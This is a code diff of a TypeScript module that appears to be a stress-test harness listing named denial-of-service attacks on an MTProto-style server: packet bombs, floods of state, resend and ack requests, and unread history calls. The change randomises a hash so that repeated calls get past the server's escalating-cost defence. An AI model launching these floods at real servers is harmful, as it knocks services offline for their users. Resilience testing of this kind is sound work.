@@ -139,7 +139,13 @@ const PART_BOMB = packed(encode({ _: 'upload.saveFilePart', file_id: 1n, file_pa
 const WRAPPED_BOMB = Buffer.concat([word(0xbf9459b7), BOMB]);
 const many = (count: number, body: Uint8Array, content = true): ClientMessage[] => Array.from({ length: count }, () => ({ body, content }));
 const ids = (count: number): bigint[] => Array.from({ length: count }, (_, i) => BigInt(i) * 4n + 1n);
-const HISTORY = encode({ _: 'messages.getHistory', peer: { _: 'inputPeerSelf' }, offset_id: 0, offset_date: 0, add_offset: 0, limit: 100, max_id: 0, min_id: 0, hash: 0n });
+/** Calls that read a history; none is like another, since the server makes repeated ones cost ever more. */
+const histories = (count: number): ClientMessage[] =>
+  Array.from({ length: count }, () => ({
+    body: encode({
+      _: 'messages.getHistory', peer: { _: 'inputPeerSelf' }, offset_id: 0, offset_date: 0, add_offset: 0, limit: 100, max_id: 0, min_id: 0, hash: systemRandom.int63(),
+    }),
+  }));
 const handshake = (): Uint8Array => writePlainMessage(BigInt(Date.now()) << 32n, mtEncode({ _: 'req_pq_multi', nonce: systemRandom.bytes(16) }));
 
 /** Every attack by its name. */
@@ -185,8 +191,8 @@ export const ATTACKS: Record<string, Attack> = {
   'questions for states': packets(() => many(8, mtEncode({ _: 'msgs_state_req', msg_ids: ids(8_000) }), false)),
   'wishes for resends': packets(() => many(100, mtEncode({ _: 'msg_resend_req', msg_ids: ids(500) }), false)),
   'acknowledgements of nothing': packets(() => many(8, mtEncode({ _: 'msgs_ack', msg_ids: ids(8_000) }), false)),
-  'calls without reading answers': packets(() => many(500, HISTORY), { reads: false }),
-  'calls never acknowledged': packets(() => many(100, HISTORY)),
+  'calls without reading answers': packets(() => histories(500), { reads: false }),
+  'calls never acknowledged': packets(() => histories(100)),
   'calls that wait for others': packets(() => many(100, encode({ _: 'invokeAfterMsg', msg_id: 4n, query: { _: 'help.getNearestDc' } }))),
   'a new session for each packet': async (target) => {
     let sent = 0;
